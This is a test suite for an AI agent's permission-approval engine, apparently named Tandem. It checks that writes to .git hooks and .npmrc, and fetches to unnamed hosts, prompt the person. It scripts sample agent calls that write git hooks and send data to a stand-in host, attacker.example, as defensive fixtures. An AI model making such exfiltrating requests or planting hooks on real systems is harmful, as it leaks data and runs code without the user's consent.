import assert from "node:assert/strict";
import { z } from "zod";
import { calls, says, scripted } from "../../../src/agent/scripted";
import { tool } from "../../../src/agent/tool";
import type { Question } from "../../../src/chat/approval/approval";
import { asked } from "../../../src/chat/make";
import type { Item } from "../../../src/chat/row-schemas";
import { answerOf, answered, bench, hostOf, until } from "./runner-fixture";
import { creating, eachTest } from "../../fixtures/run-scene";

describe("approval: the engine in a run", () => {
  const scene = eachTest();

  const write = (path: string): [string, string] => ["create_file", JSON.stringify({ path, content: "x" })];

  it("takes the panel's 'Always allow' on a protected path as a yes for that call only, and writes the question on the call", async () => {
    const root = scene.folder();
    const { tool: t, written } = creating();
    const model = scripted([
      calls([write(".git/hooks/pre-commit")]),
      calls([write(".GIT/hooks/post-merge")]),
      calls([write("notes.md")]),
      says("Done."),
    ]);
    scene.bench = await bench(hostOf({ default: model }, { tools: () => [t], root: () => root }));
    const chat = scene.bench.chat();
    const user = asked("Write the hooks", chat);
    scene.bench.store.put("items", user);
    const waiting = async (n: number): Promise<Item> => {
      await until(
        () =>
          answerOf(scene.bench!.store, chat, user.id).filter((i) => i.kind === "call")[n]?.state ===
          "approval",
        `call ${n} to wait`,
      );
      return answerOf(scene.bench!.store, chat, user.id).filter((i) => i.kind === "call")[n];
    };
    const first = await waiting(0);
    assert.equal(
      first.text,
      "Tandem wants to run create_file: .git/hooks/pre-commit (1 line)\nIt can run code on your machine: .git/hooks/pre-commit is in a protected place (.git/).",
    );
    assert.equal(first.always, undefined, "no 'Always allow' is offered for a protected path");
    scene.bench.runner.decide(first.id, "always");
    const second = await waiting(1);
    assert.match(second.text, /protected place \(\.git\/\)/);
    scene.bench.runner.decide(second.id, "always");
    const third = await waiting(2);
    assert.equal(third.text, "Tandem wants to run create_file: notes.md (1 line)");
    assert.equal(
      third.always,
      "Always Allow in This Conversation",
      "the 'always' on a protected path granted nothing",
    );
    scene.bench.runner.decide(third.id, true);
    await answered(scene.bench.store, user.id);
    assert.deepEqual(written, [".git/hooks/pre-commit", ".GIT/hooks/post-merge", "notes.md"]);
  });

  it("fetches from a host the person named without asking, and asks for another; 'always' allows that host", async () => {
    const fetched: string[] = [];
    const page = tool(
      "fetch_page",
      "Fetches a page.",
      z.object({ url: z.string() }),
      ({ url }) => (fetched.push(url), "page"),
      { readOnly: true },
    );
    const url = (u: string): [string, string] => ["fetch_page", JSON.stringify({ url: u })];
    const model = scripted([
      calls([url("https://example.com/docs")]),
      calls([url("https://attacker.example/c?d=1")]),
      calls([url("https://attacker.example/c?d=2")]),
      says("Read them."),
    ]);
    const questions: Question[] = [];
    scene.bench = await bench(
      hostOf(
        { default: model },
        { tools: () => [page], approve: async (_c, _s, q) => (questions.push(q), "always") },
      ),
    );
    const chat = scene.bench.chat();
    await scene.bench.send(asked("Summarize https://example.com/docs", chat));
    assert.deepEqual(
      questions.map((q) => [q.text, q.always]),
      [
        [
          "Tandem wants to run fetch_page: https://attacker.example/c?d=1\nIt sends data to attacker.example: the address itself can carry it.",
          "Allow attacker.example in This Conversation",
        ],
      ],
    );
    assert.equal(fetched.length, 3);
  });

  it("follows the person's setting: allow lets an ordinary write by, never a protected one", async () => {
    const root = scene.folder();
    const { tool: t, written } = creating();
    const model = scripted([calls([write("notes.md")]), calls([write(".npmrc")]), says("Done.")]);
    const seen: string[] = [];
    scene.bench = await bench(
      hostOf(
        { default: model },
        {
          tools: () => [t],
          root: () => root,
          approvals: () => ({ create_file: "allow" }),
          approve: async (call) => (seen.push(call.input), false),
        },
      ),
    );
    const chat = scene.bench.chat();
    await scene.bench.send(asked("Write", chat));
    assert.deepEqual(written, ["notes.md"]);
    assert.deepEqual(seen, [JSON.stringify({ path: ".npmrc", content: "x" })]);
  });
});
